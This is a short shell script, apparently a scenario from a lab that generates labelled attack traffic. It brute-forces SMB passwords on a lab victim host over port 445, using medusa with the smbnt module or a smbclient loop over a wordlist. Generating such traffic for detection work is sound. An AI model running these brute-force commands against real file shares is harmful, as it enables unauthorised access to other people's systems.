# SPDX-License-Identifier: MIT
# label: bruteforce-other
# source: lab-medusa
# needs: medusa hydra smbd
# seconds: 60
# Passwords for file shares.
. $lab/victims.sh

servers() {
	victim_smb b
	words_up 60
	users_up 4
}

scenario() {
	_from=$(choose a s)
	_tool=$(choose medusa smbclient)
	setting options "$_tool from $_from"
	if [ "$_tool" = medusa ]; then
		attack "$_from" b tcp 445 -- timeout 50 medusa -h "$(addr b)" -U "$work/users" \
			-P "$work/words" -M smbnt -t "$(choose 1 2)"
	else
		# shellcheck disable=SC2016
		attack "$_from" b tcp 445 -- timeout 50 sh -c 'while read -r p; do
			smbclient -s /dev/null -U "lab%$p" -c ls "//$1/share"; done <"$2"' \
			sh "$(addr b)" "$work/words"
	fi
}
